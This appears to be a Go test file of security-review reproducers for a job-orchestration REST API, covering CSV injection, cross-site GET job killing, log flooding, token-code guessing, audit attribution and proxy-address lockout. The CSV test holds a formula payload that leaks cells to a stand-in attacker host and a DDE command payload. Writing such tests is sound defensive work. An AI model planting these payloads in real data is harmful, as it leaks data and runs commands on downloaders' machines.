@@ -1,0 +1,265 @@
+package restapi_test
+
+// Reproducers of the security review of the REST API (branch rev-auth),
+// against the conformance server (a real system, logins in the
+// replicated state). Each FAILS on the code as reviewed.
+
+import (
+	"bufio"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/golinkis/golinkis/orchestrator/identity"
+	"github.com/golinkis/golinkis/orchestrator/restapi"
+	"github.com/golinkis/golinkis/orchestrator/restapi/restapitest"
+	"github.com/golinkis/golinkis/raftstore"
+)
+
+// Finding 6 (medium): a CSV download writes cells as they are. A result
+// cell starting with '=', '+', '-' or '@' is a formula when the file is
+// opened in a spreadsheet (OWASP "CSV injection"): data from a shared
+// table, or another user's result an administrator exports, runs as a
+// formula on the downloader's machine (=HYPERLINK to leak the sheet,
+// DDE on older Excel). The XLSX download is safe (excelize writes strings
+// as strings).
+func TestReviewCSVCellsAreNotFormulas(t *testing.T) {
+	s := conformanceServer(t)
+	alice := s.newClient(t, nil)
+	alice.login("alice", alicePassword).ok(t)
+	code := `select '=HYPERLINK("http://attacker.invalid/?"&B2,"open")' as f, '@SUM(1+1)*cmd|'' /C calc''!A0' as g, '+1+2' as h, 'plain' as p`
+	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},"labels":{"engineType":"sql-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	task := alice.waitEnded(idOf(t, a.Data, "taskID"))
+	if str(t, task, "status") != "Succeed" {
+		t.Fatalf("job %v", task)
+	}
+	d := alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {str(t, task, "resultLocation")}}, "")
+	d.ok(t)
+	set := str(t, list(t, obj(t, d.Data, "dirFileTrees"), "children")[0].(map[string]any), "path")
+	csv := alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {set}, "outputFileType": {"csv"}}, "")
+	if csv.http != 200 {
+		t.Fatalf("download: HTTP %d %s", csv.http, csv.raw)
+	}
+	sc := bufio.NewScanner(strings.NewReader(string(csv.raw)))
+	sc.Scan() // the header
+	if !sc.Scan() {
+		t.Fatalf("no row in %q", csv.raw)
+	}
+	row := sc.Text()
+	t.Logf("row as downloaded: %s", row)
+	for _, field := range splitCSV(row) {
+		if field != "" && strings.ContainsRune("=+-@", rune(field[0])) {
+			t.Errorf("cell %q is written as a spreadsheet formula", field)
+		}
+	}
+}
+
+// splitCSV splits one CSV line into its fields, unquoted.
+func splitCSV(line string) []string {
+	var out []string
+	var b strings.Builder
+	quoted := false
+	for i := 0; i < len(line); i++ {
+		c := line[i]
+		switch {
+		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
+			b.WriteByte('"')
+			i++
+		case c == '"':
+			quoted = !quoted
+		case c == ',' && !quoted:
+			out = append(out, b.String())
+			b.Reset()
+		default:
+			b.WriteByte(c)
+		}
+	}
+	return append(out, b.String())
+}
+
+// Finding 7 (medium): entrance/{id}/kill accepts GET, and the session
+// cookie is SameSite=Lax - which browsers send on a top-level GET
+// navigation from another site. A link or a redirect on any page the
+// victim opens (here: the request a browser makes for it, with its
+// Sec-Fetch headers and the Lax cookie) kills the victim's job; for an
+// administrator, anyone's. No token, no custom header, no Origin check.
+// (Linkis's kill is a GET; its non-browser clients send the token headers
+// or a cookie jar that SameSite=Strict would not change.)
+func TestReviewCrossSiteGETDoesNotKill(t *testing.T) {
+	s := conformanceServer(t)
+	alice := s.newClient(t, nil)
+	login := alice.login("alice", alicePassword)
+	login.ok(t)
+	var sameSite string
+	for _, c := range (&http.Response{Header: login.header}).Cookies() {
+		if c.Name == "linkis_user_session_ticket_id_v1" {
+			sameSite = map[http.SameSite]string{http.SameSiteLaxMode: "Lax", http.SameSiteStrictMode: "Strict", http.SameSiteNoneMode: "None"}[c.SameSite]
+		}
+	}
+	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":"sleep 30"},"labels":{"engineType":"shell-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	exec, taskID := str(t, a.Data, "execID"), idOf(t, a.Data, "taskID")
+	// What the browser sends when a page of another site navigates to it:
+	// the cookie (Lax allows it on a top-level GET), and Sec-Fetch-* saying
+	// where it comes from.
+	browser := &client{t: t, base: alice.base, hc: alice.hc, headers: map[string]string{
+		"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Referer": "https://attacker.invalid/"}}
+	k := browser.do("GET", "/entrance/"+exec+"/kill", nil, "")
+	st := alice.do("GET", "/jobhistory/"+taskID+"/get", nil, "")
+	st.ok(t)
+	if got := str(t, obj(t, st.Data, "task"), "status"); got == "Cancelled" {
+		t.Errorf("a cross-site top-level GET with the %s session cookie killed alice's job (status %d %q)", sameSite, k.status(t), k.Message)
+	}
+}
+
+// reviewHandler is the REST API over an in-memory replicated store with
+// logins (identity.Service, default limits) and a legacy token for alice.
+func reviewHandler(t *testing.T) (http.Handler, *raftstore.Memory) {
+	t.Helper()
+	st, err := raftstore.OpenMemory(raftstore.DefaultMemoryConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { st.Close() })
+	d, err := identity.ParseSpec("alice:alice-code") // a token code an operator chose ($LINKIS_USERS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ic := identity.DefaultConfig()
+	ic.Directory, ic.Store = d, st
+	auth, err := identity.New(ic)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rc := restapi.DefaultConfig()
+	rc.Auth, rc.Logger = auth, slog.New(slog.NewTextHandler(io.Discard, nil))
+	h, err := restapi.NewHandler(restapitest.NewJobs(), rc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return h, st
+}
+
+// Finding 10 (medium): user/logout is public and proposes a DeleteSession
+// command for any well-formed session cookie, whether or not it names a
+// session: every unauthenticated request is one entry in the replicated
+// log (written to disk and sent to every member). The package's own doc
+// keeps failed logins out of the log for exactly this reason.
+func TestReviewAnonymousLogoutWritesNothing(t *testing.T) {
+	h, st := reviewHandler(t)
+	before := st.AppliedIndex()
+	for i := 0; i < 100; i++ {
+		r := httptest.NewRequest("GET", restapi.Prefix+"/user/logout", nil)
+		r.AddCookie(&http.Cookie{Name: restapi.SessionCookie, Value: base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf("%032d", i)))})
+		h.ServeHTTP(httptest.NewRecorder(), r)
+	}
+	if after := st.AppliedIndex(); after != before {
+		t.Errorf("100 anonymous logouts of sessions that never existed moved the applied index from %d to %d", before, after)
+	}
+}
+
+// Finding 11 (medium): token codes may be guessed without limit - a wrong
+// Token-Code is not counted by any limiter (failed logins are) - and the
+// refusal tells a right code from a wrong one ("the token may not act as
+// this user" / "...from this host" / "expired" against "wrong Token-User
+// or Token-Code"): an oracle for codes that are host-limited or chosen by
+// operators ($LINKIS_USERS, the old users file).
+func TestReviewTokenGuessesAreLimited(t *testing.T) {
+	h, _ := reviewHandler(t)
+	ask := func(user, code string) (int, string) {
+		r := httptest.NewRequest("GET", restapi.Prefix+"/user/userInfo", nil)
+		r.RemoteAddr = "192.0.2.7:4444"
+		r.Header.Set(restapi.HeaderTokenUser, user)
+		r.Header.Set(restapi.HeaderTokenCode, code)
+		w := httptest.NewRecorder()
+		h.ServeHTTP(w, r)
+		var env restapi.Envelope
+		_ = json.Unmarshal(w.Body.Bytes(), &env)
+		return w.Code, env.Message
+	}
+	limited := 0
+	for i := 0; i < 200; i++ {
+		if code, _ := ask("alice", fmt.Sprintf("guess-%d", i)); code == http.StatusTooManyRequests {
+			limited++
+		}
+	}
+	code, _ := ask("alice", "alice-code")
+	if limited == 0 && code == http.StatusOK {
+		t.Errorf("200 wrong Token-Codes from one address, none refused for it, and the right code then works")
+	}
+	_, wrongMsg := ask("nobody", "guess")
+	_, rightMsg := ask("nobody", "alice-code")
+	if wrongMsg != rightMsg {
+		t.Errorf("a valid code with another user is answered %q, an invalid one %q: the answer says which codes exist", rightMsg, wrongMsg)
+	}
+}
+
+// Finding 12 (low): an administrator's submission as another user
+// (executeUser) is recorded as that user's own: submitUser and
+// executeUser both name the user, and nothing in the record says who
+// submitted it. Linkis keeps the logged-in user as submitUser and the
+// proxy as executeUser (EntranceRestfulApi.submit, JobRequest); here a
+// job an administrator ran as alice is indistinguishable from alice's.
+func TestReviewExecuteUserKeepsTheSubmitter(t *testing.T) {
+	s := conformanceServer(t)
+	ops := s.newClient(t, nil)
+	ops.login("ops", opsPassword).ok(t)
+	a := ops.do("POST", "/entrance/submit", nil, `{"executeUser":"alice","executionContent":{"code":"echo hi"},"labels":{"engineType":"shell-1","userCreator":"alice-IDE"}}`)
+	a.ok(t)
+	task := ops.waitEnded(idOf(t, a.Data, "taskID"))
+	if sub, ex := str(t, task, "submitUser"), str(t, task, "executeUser"); sub != "ops" || ex != "alice" {
+		t.Errorf("ops submitted as alice; the record says submitUser %q, executeUser %q", sub, ex)
+	}
+}
+
+// Finding 13 (medium): the server takes r.RemoteAddr as the client's
+// address and has no notion of a trusted proxy, while the README puts the
+// console behind one ("point its /api proxy at the server", "use TLS in
+// front"). Behind it every client has the proxy's address: twenty wrong
+// passwords from anyone lock every console user out for 15 minutes (here
+// alice, with her right password), a token's hosts= limit admits anyone
+// whose request the proxy forwards, and the session cookie loses Secure
+// (r.TLS is nil behind a TLS-terminating proxy).
+func TestReviewOneProxyIsNotOneClient(t *testing.T) {
+	st, err := raftstore.OpenMemory(raftstore.DefaultMemoryConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { st.Close() })
+	d := identity.NewDirectory()
+	hash, _ := identity.HashPassword("alice-pw")
+	d.AddUser(identity.User{Name: "alice", Hash: hash})
+	ic := identity.DefaultConfig()
+	ic.Directory, ic.Store = d, st
+	auth, _ := identity.New(ic)
+	rc := restapi.DefaultConfig()
+	rc.Auth, rc.Logger = auth, slog.New(slog.NewTextHandler(io.Discard, nil))
+	h, err := restapi.NewHandler(restapitest.NewJobs(), rc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	login := func(user, pw, realClient string) int {
+		r := httptest.NewRequest("POST", restapi.Prefix+"/user/login", strings.NewReader(`{"userName":"`+user+`","password":"`+pw+`"}`))
+		r.RemoteAddr = "127.0.0.1:40000" // the console's proxy
+		r.Header.Set("X-Forwarded-For", realClient)
+		r.Header.Set("X-Forwarded-Proto", "https")
+		w := httptest.NewRecorder()
+		h.ServeHTTP(w, r)
+		return w.Code
+	}
+	for i := 0; i < 20; i++ {
+		login(fmt.Sprintf("nobody%d", i), "guess", "203.0.113.66")
+	}
+	if code := login("alice", "alice-pw", "198.51.100.7"); code != http.StatusOK {
+		t.Errorf("twenty wrong passwords from 203.0.113.66 through the proxy; alice, from 198.51.100.7 with her right password, gets HTTP %d", code)
+	}
+}
